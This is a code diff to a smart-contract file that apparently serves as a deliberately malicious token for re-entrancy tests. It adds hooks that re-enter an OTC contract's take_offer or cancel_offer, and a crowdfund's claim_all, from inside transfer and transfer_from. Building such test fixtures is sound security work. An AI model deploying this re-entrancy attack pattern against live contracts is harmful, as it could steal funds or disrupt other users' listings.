@@ -15,6 +15,11 @@ re_entry_contribution_amount = Variable()
 re_entry_attempt_count = Variable()
 re_entry_max_attempts = Variable() # To prevent infinite loops in complex scenarios
 
+# OTC re-entrancy: take_offer or cancel_offer on a listing, from inside transfer or transfer_from
+re_entry_target_otc_name = Variable()
+re_entry_otc_function = Variable()
+re_entry_otc_listing_id = Variable()
+
 @construct
 def seed():
     re_entry_attempt_count.set(0)
@@ -33,6 +38,28 @@ def configure_re_entrancy_for_withdraw(crowdfund_name: str, pool_id: str):
     re_entry_target_pool_id_for_withdraw.set(pool_id)
     re_entry_attempt_count.set(0) # Reset attempt count for this specific re-entrancy path
 
+@export
+def configure_re_entrancy_for_otc(otc_name: str, function: str, listing_id: str):
+    assert ctx.caller == re_entry_owner.get(), "Only owner can configure re-entrancy for otc."
+    assert function in ["take_offer", "cancel_offer"], "Unsupported otc function."
+    re_entry_target_otc_name.set(otc_name)
+    re_entry_otc_function.set(function)
+    re_entry_otc_listing_id.set(listing_id)
+    re_entry_attempt_count.set(0)
+
+def re_enter_otc():
+    # Calls the configured OTC function once, with this contract as the caller
+    current_attempts = re_entry_attempt_count.get()
+    otc_name = re_entry_target_otc_name.get()
+    if not otc_name or current_attempts >= re_entry_max_attempts.get():
+        return
+    re_entry_attempt_count.set(current_attempts + 1)
+    otc_contract = I.import_module(otc_name)
+    if re_entry_otc_function.get() == "take_offer":
+        otc_contract.take_offer(listing_id=re_entry_otc_listing_id.get())
+    else:
+        otc_contract.cancel_offer(listing_id=re_entry_otc_listing_id.get())
+
 # This method allows the contract to approve a spender for tokens it owns (e.g., pool_tokens)
 @export
 def execute_token_approve(token_contract_name: str, spender: str, amount: float):
@@ -57,6 +84,13 @@ def execute_withdraw_share(crowdfund_contract_name: str, pool_id: str):
     # The malicious token contract (ctx.this) is the one calling withdraw_share
     crowdfund_contract.withdraw_share(pool_id=pool_id)
 
+# This method allows the contract to call claim_all on a crowdfund contract
+@export
+def execute_claim_all(crowdfund_contract_name: str, pool_ids: list):
+    assert ctx.caller == re_entry_owner.get(), "Only owner can execute claim_all."
+    crowdfund_contract = I.import_module(crowdfund_contract_name)
+    crowdfund_contract.claim_all(pool_ids=pool_ids)
+
 def internal_approve(spender: str, amount_to_approve: float):
     # print(f"MALICIOUS TOKEN (internal_approve): Owner '{ctx.this}' (this contract) is approving spender '{spender}' for {amount_to_approve}")
     balances[ctx.this, spender] = amount_to_approve # owner is ctx.this (this contract)
@@ -127,7 +161,8 @@ def transfer(amount: float, to: str):
             # The malicious contract (ctx.this) re-enters withdraw_share for itself.
             crowdfund_contract_to_reenter.withdraw_share(pool_id=target_pool_withdraw) 
             # Note: ctx.caller for the re-entrant withdraw_share will be this malicious token contract.
-    
+
+    re_enter_otc()
     return True
 
 @export
@@ -172,7 +207,8 @@ def transfer_from(amount: float, to: str, main_account: str):
             crowdfund_contract = I.import_module(target_crowdfund_name)
             
             crowdfund_contract.contribute(pool_id=target_pool_id, amount=re_contrib_amount)
-    
+
+    re_enter_otc()
     return True
 
 